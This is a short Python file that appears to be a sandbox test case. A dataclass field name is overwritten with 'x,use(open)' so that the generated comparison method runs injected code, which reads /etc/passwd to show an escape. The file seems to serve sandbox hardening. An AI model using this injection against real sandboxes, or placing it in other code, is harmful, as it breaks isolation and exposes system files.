# tries: a field that is code by the time a subclass inherits it
# class: dataclass
# stops: 2 3 4
import dataclasses


def use(opener):
    print("REACHED")
    if "root:" in opener("/etc/passwd").read():
        print("ESCAPED")


@dataclasses.dataclass
class A:
    x: int


dataclasses.fields(A)[0].name = "x,use(open)"


@dataclasses.dataclass(init=False, repr=False)
class B(A):
    pass


B(1) == B(1)
